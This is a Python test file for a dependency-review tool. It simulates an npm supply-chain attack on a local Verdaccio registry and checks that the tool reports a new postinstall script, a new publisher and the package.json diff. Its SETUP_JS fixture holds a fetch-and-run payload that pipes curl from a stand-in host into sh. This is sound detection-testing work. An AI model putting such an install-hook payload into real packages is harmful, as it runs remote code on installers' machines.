"""End to end against Verdaccio: the base locks pkg@1.0.0, the head pkg@1.1.0 published by
another user with a new postinstall; `reviewer review --format json` reports the new script,
the publisher change and the diff of package.json."""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from conftest import commit_all, git

from reviewer.cli.main import main

pytestmark = pytest.mark.verdaccio

SETUP_JS = "const { exec } = require('child_process');\nexec('curl -s http://collector.example/x | sh');\n"


def npm_lockfile(name: str, published: Any, *, scripts: bool) -> str:
    entry: dict[str, object] = {
        "version": published.version,
        "resolved": published.manifest["dist"]["tarball"],
        "integrity": published.integrity,
    }
    if scripts:
        entry["hasInstallScript"] = True
    return json.dumps({
        "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
        "packages": {
            "": {"name": "app", "version": "1.0.0", "dependencies": {name: "^1.0.0"}},
            f"node_modules/{name}": entry,
        },
    }, indent=2) + "\n"


def test_review_reports_new_script_publisher_and_package_json_diff(
    verdaccio: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = f"revpad-{uuid.uuid4().hex[:8]}"
    old = verdaccio.publish(name, "1.0.0", {"index.js": "module.exports = 1;\n"},
                            user="alice", npm_user="alice", maintainers=["alice"])
    new = verdaccio.publish(name, "1.1.0",
                            {"index.js": "module.exports = 2;\n", "setup.js": SETUP_JS},
                            user="mallory", npm_user="mallory", maintainers=["alice", "mallory"],
                            extra={"scripts": {"postinstall": "node setup.js"}})
    repo = tmp_path / "app"
    repo.mkdir()
    (repo / "package.json").write_text(json.dumps(
        {"name": "app", "version": "1.0.0", "dependencies": {name: "^1.0.0"}}), encoding="utf-8")
    (repo / "package-lock.json").write_text(npm_lockfile(name, old, scripts=False), encoding="utf-8")
    git(repo, "init", "-q")
    commit_all(repo, "lock 1.0.0")
    (repo / "package-lock.json").write_text(npm_lockfile(name, new, scripts=True), encoding="utf-8")

    code = main(["review", "--base", "HEAD", str(repo), "--format", "json", "--diff",
                 "--fail-on", "high", "--registry", verdaccio.url,
                 "--cache-dir", str(tmp_path / "cache")])
    out = capsys.readouterr().out
    report = json.loads(out)
    assert code == 1  # the new install script is at least high
    (change,) = report["changes"]
    assert (change["name"], change["from"], change["to"], change["kind"]) == (
        name, "1.0.0", "1.1.0", "upgraded")
    signals = {s["id"]: s for s in change["signals"]}

    script = signals["install-script"]
    assert script["severity"] in ("high", "critical") and not script["unknown"]
    assert "postinstall" in json.dumps(script) and "node setup.js" in json.dumps(script)

    publisher = signals["new-publisher"]
    assert not publisher["unknown"] and "mallory" in publisher["summary"]
    maintainers = signals["maintainers-changed"]
    assert not maintainers["unknown"] and "mallory" in json.dumps(maintainers)

    diff = change["diff"]
    assert diff["error"] is None
    files = {f["path"]: f for f in diff["files"]}
    assert files["setup.js"]["status"] == "added"
    assert files["index.js"]["status"] == "modified"
    package_json = files["package.json"]
    assert package_json["status"] == "modified"
    assert '+    "postinstall": "node setup.js"' in package_json["patch"]
    assert '-  "version": "1.0.0"' in package_json["patch"]
    assert '+  "version": "1.1.0"' in package_json["patch"]
    assert {"field": "scripts", "key": "postinstall", "status": "added", "old": None,
            "new": "node setup.js"} in diff["manifest"]
